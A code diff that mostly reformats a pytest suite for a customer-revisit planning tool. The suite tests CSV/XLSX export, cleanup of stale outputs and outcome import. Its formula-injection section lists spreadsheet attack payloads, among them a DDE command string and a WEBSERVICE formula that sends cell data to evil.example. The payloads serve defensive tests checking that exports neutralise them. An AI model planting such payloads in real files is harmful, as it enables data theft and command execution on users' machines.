@@ -34,14 +34,16 @@ FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def _sample(n: int = 40) -> pd.DataFrame:
-    frame = pd.read_csv(SAMPLE / "customers.csv", dtype=str, keep_default_na=False,
-                        encoding="utf-8-sig")  # fmt: skip
+    frame = pd.read_csv(
+        SAMPLE / "customers.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig"
+    )
     return frame.head(n).copy()
 
 
 def _roster() -> pd.DataFrame:
-    return pd.read_csv(SAMPLE / "roster.csv", dtype=str, keep_default_na=False,
-                       encoding="utf-8-sig")  # fmt: skip
+    return pd.read_csv(
+        SAMPLE / "roster.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig"
+    )
 
 
 @pytest.fixture()
@@ -62,8 +64,18 @@ def snapshot(folder: Path) -> dict[str, bytes]:
 
 
 def plan(files: Path, out: Path, customers: str = "small.csv", *extra: str) -> int:
-    return main(["plan", "--customers", str(files / customers), "--staff",
-                 str(files / "roster.csv"), "--out", str(out), *extra])  # fmt: skip
+    return main(
+        [
+            "plan",
+            "--customers",
+            str(files / customers),
+            "--staff",
+            str(files / "roster.csv"),
+            "--out",
+            str(out),
+            *extra,
+        ]
+    )
 
 
 # --------------------------------------------------------------------- 1. register round trip
@@ -71,8 +83,7 @@ def test_an_unchanged_register_round_trip_changes_nothing(files, capsys):
     config = load_config()
     assert main(["risks", "init"]) == 0
     assert main(["risks", "export", str(files / "rt0.csv")]) == 0
-    edited = pd.read_csv(files / "rt0.csv", dtype=str, keep_default_na=False,
-                         encoding="utf-8-sig")  # fmt: skip
+    edited = pd.read_csv(files / "rt0.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
     # what the kit wrote is marked inert; what a person types in a spreadsheet is not
     texts = {
         "缓解措施": "=> 先电话确认，再安排上门拜访",
@@ -104,8 +115,7 @@ def test_the_xlsx_round_trip_keeps_line_breaks_and_quotes_and_refuses_what_a_cel
 ):
     assert main(["risks", "init"]) == 0
     assert main(["risks", "export", str(files / "rt0.csv")]) == 0
-    edited = pd.read_csv(files / "rt0.csv", dtype=str, keep_default_na=False,
-                         encoding="utf-8-sig")  # fmt: skip
+    edited = pd.read_csv(files / "rt0.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
     edited.loc[0, "缓解措施"] = "line1\r\nline2"
     edited.loc[1, "缓解措施"] = "cr\ronly"
     edited.loc[2, "缓解措施"] = "''=x"
@@ -125,10 +135,16 @@ def test_the_xlsx_round_trip_keeps_line_breaks_and_quotes_and_refuses_what_a_cel
 
 # --------------------------------------------------------------------- 2. formula injection
 PAYLOADS = [
-    '=HYPERLINK("http://x","click")', "=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3",
-    "http://evil.example/", "external:C:\\Windows\\System32\\calc.exe", "mailto:a@b.cn",
+    '=HYPERLINK("http://x","click")',
+    "=1+1",
+    "@SUM(1)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "http://evil.example/",
+    "external:C:\\Windows\\System32\\calc.exe",
+    "mailto:a@b.cn",
     '=WEBSERVICE("http://evil.example/?"&B5)',
-]  # fmt: skip
+]
 
 
 def test_write_csv_marks_each_formula_start_and_read_table_strips_it(tmp_path):
@@ -139,11 +155,20 @@ def test_write_csv_marks_each_formula_start_and_read_table_strips_it(tmp_path):
     write_csv(frame, tmp_path / "x.csv")
     with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as f:
         raw = list(csv.reader(f))
-    assert [r[0] for r in raw[1:]] == ["'=1+1", "'+1", "'-x", "'@SUM(1)", "'\t=1", "'\r=1",
-                                       "''=already", "ok", "a=b", ""]  # fmt: skip
+    assert [r[0] for r in raw[1:]] == [
+        "'=1+1",
+        "'+1",
+        "'-x",
+        "'@SUM(1)",
+        "'\t=1",
+        "'\r=1",
+        "''=already",
+        "ok",
+        "a=b",
+        "",
+    ]
     assert [r[1] for r in raw[1:4]] == ["-1.5", "2.0", "-3.0"]  # numbers stay numbers
-    back = pd.read_csv(tmp_path / "x.csv", dtype=str, keep_default_na=False,
-                       encoding="utf-8-sig")  # fmt: skip
+    back = pd.read_csv(tmp_path / "x.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
     assert strip_inert_marks(back)["t"].tolist() == texts
 
 
@@ -176,10 +201,20 @@ def test_no_cell_of_the_workbooks_is_a_formula_or_a_link(injected, files):
     assert main(["risks", "export", str(files / "r.xlsx")]) == 0
     for book_path in (injected / "plan.xlsx", files / "r.xlsx"):
         book = openpyxl.load_workbook(book_path)
-        formulas = [(ws.title, c.coordinate, c.value) for ws in book for row in ws.iter_rows()
-                    for c in row if c.data_type == "f"]  # fmt: skip
-        links = [(ws.title, c.coordinate) for ws in book for row in ws.iter_rows()
-                 for c in row if c.hyperlink is not None]  # fmt: skip
+        formulas = [
+            (ws.title, c.coordinate, c.value)
+            for ws in book
+            for row in ws.iter_rows()
+            for c in row
+            if c.data_type == "f"
+        ]
+        links = [
+            (ws.title, c.coordinate)
+            for ws in book
+            for row in ws.iter_rows()
+            for c in row
+            if c.hyperlink is not None
+        ]
         assert formulas == [] and links == [], (book_path.name, formulas[:3], links[:3])
     # the text is there as written
     book = openpyxl.load_workbook(injected / "plan.xlsx")
@@ -273,11 +308,27 @@ FAULT = textwrap.dedent(
 def _faulty_plan(files: Path, out: Path, mode: str, phase: str, at: int, customers="bigger.csv"):
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
     return subprocess.run(
-        [sys.executable, "-c", FAULT, mode, phase, str(at), str(out.resolve()), "plan",
-         "--customers", str(files / customers), "--staff", str(files / "roster.csv"),
-         "--out", str(out)],
-        capture_output=True, text=True, env=env, cwd=files,
-    )  # fmt: skip
+        [
+            sys.executable,
+            "-c",
+            FAULT,
+            mode,
+            phase,
+            str(at),
+            str(out.resolve()),
+            "plan",
+            "--customers",
+            str(files / customers),
+            "--staff",
+            str(files / "roster.csv"),
+            "--out",
+            str(out),
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        cwd=files,
+    )
 
 
 @pytest.fixture(scope="module")
@@ -405,19 +456,26 @@ def test_a_plan_folder_holds_exactly_the_current_run(files):
     schedule = pd.read_csv(out / "schedule.csv", dtype=str)
     gone = sorted(set(schedule["staff_id"].dropna()))[:5]
     roster = _roster()
-    roster[~roster["员工编号"].isin(gone)].to_csv(files / "roster.csv", index=False,
-                                                encoding="utf-8-sig")  # fmt: skip
+    roster[~roster["员工编号"].isin(gone)].to_csv(
+        files / "roster.csv", index=False, encoding="utf-8-sig"
+    )
     assert plan(files, out, "more.csv") == 0
     second = sorted(p.name for p in (out / "calendars").iterdir())
     assert first and not {f"{s}.ics" for s in gone} & set(second)
     now = pd.read_csv(out / "schedule.csv", dtype=str)
     assert sorted(f"{s}.ics" for s in set(now["staff_id"].dropna())) == second
     # no staff, no workbook: the schedule, calendars and plan.xlsx of before go
-    assert main(["plan", "--customers", str(files / "small.csv"), "--no-xlsx",
-                 "--out", str(out)]) == 0  # fmt: skip
+    assert (
+        main(["plan", "--customers", str(files / "small.csv"), "--no-xlsx", "--out", str(out)]) == 0
+    )
     left = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
-    assert left == [".revisitkit-plan.json", "budget.csv", "budget_monthly.csv",
-                    "customers_plan.csv", "notes.txt"]  # fmt: skip
+    assert left == [
+        ".revisitkit-plan.json",
+        "budget.csv",
+        "budget_monthly.csv",
+        "customers_plan.csv",
+        "notes.txt",
+    ]
 
 
 def test_a_plan_folder_from_before_manifests_loses_its_stale_calendars_only(files):
@@ -453,8 +511,17 @@ def test_a_folder_the_kit_never_wrote_keeps_every_file(files, capsys):
     # a run that would write over one of them refuses and changes nothing
     shutil.copy(files / "roster.csv", files / "other-roster.csv")
     before = snapshot(out)
-    code = main(["plan", "--customers", str(out / "small.csv"), "--staff",
-                 str(files / "other-roster.csv"), "--out", str(out)])  # fmt: skip
+    code = main(
+        [
+            "plan",
+            "--customers",
+            str(out / "small.csv"),
+            "--staff",
+            str(files / "other-roster.csv"),
+            "--out",
+            str(out),
+        ]
+    )
     assert code == 2
     err = capsys.readouterr().err
     assert "a file that revisitkit did not write has the name of an output" in err
@@ -504,11 +571,11 @@ def test_an_outcome_by_someone_on_the_roster_without_a_task_is_accepted(files, c
     customer = pd.read_csv(out / "customers_plan.csv", dtype=str)["customer_id"].iloc[0]
     outcomes = files / "outcomes.csv"
     header = "客户编号,回访日期,回访方式,员工编号,是否触达,满意度\n"
-    outcomes.write_text(header + f"{customer},2026-12-20,电话回访,{substitute},是,5\n",
-                        encoding="utf-8")  # fmt: skip
+    outcomes.write_text(
+        header + f"{customer},2026-12-20,电话回访,{substitute},是,5\n", encoding="utf-8"
+    )
     assert main(["outcomes", "import", str(outcomes), "--plan", str(out)]) == 0
-    outcomes.write_text(header + f"{customer},2026-12-21,电话回访,NOBODY,是,5\n",
-                        encoding="utf-8")  # fmt: skip
+    outcomes.write_text(header + f"{customer},2026-12-21,电话回访,NOBODY,是,5\n", encoding="utf-8")
     assert main(["outcomes", "import", str(outcomes), "--plan", str(out)]) == 2
     err = capsys.readouterr().err
     assert "NOBODY" in err and "not on the roster" in err
